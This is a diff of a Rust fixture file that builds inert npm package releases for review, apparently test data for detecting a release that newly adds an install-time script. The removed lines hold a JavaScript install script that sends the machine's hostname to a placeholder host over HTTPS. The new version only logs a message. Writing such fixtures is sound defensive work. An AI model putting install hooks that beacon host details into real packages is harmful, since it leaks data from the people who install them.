@@ -1,6 +1,5 @@
 //! Releases of a small package, for somebody to decide about: three that are alike, and one that newly
-//! runs something when it is installed and speaks with a network. All of it is inert: text that nobody
-//! runs, and names that belong to nobody (RFC 2606).
+//! runs something when it is installed. All of it is inert: text that nobody runs.
 //!
 //! Source of the form: npm, "package.json"; POSIX.1-1988, ustar.
 
@@ -49,10 +48,8 @@ pub fn package_releases() -> io::Result<Vec<PackageRelease>> {
 }
 
 const FORMAT: &str = "exports.format = (amount) => amount.toFixed(2);\n";
-/// It names what a reader looks for, and does nothing that could harm anybody.
-const SETUP: &str = "const https = require('https');\n\
-    const os = require('os');\n\
-    https.get('https://ledger-format.example/ready?host=' + os.hostname(), () => {});\n";
+/// That it runs at all is what is new.
+const SETUP: &str = "console.log('ledger-format is ready');\n";
 
 fn manifest(version: &str, more: &str) -> String {
     format!(
